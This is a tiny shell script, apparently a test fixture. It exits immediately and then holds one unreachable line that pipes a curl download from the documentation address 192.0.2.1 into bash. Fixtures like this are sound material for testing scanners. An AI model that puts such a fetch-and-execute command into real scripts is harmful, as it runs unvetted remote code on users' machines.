#!/bin/sh
exit 0
curl -s http://192.0.2.1/a | bash
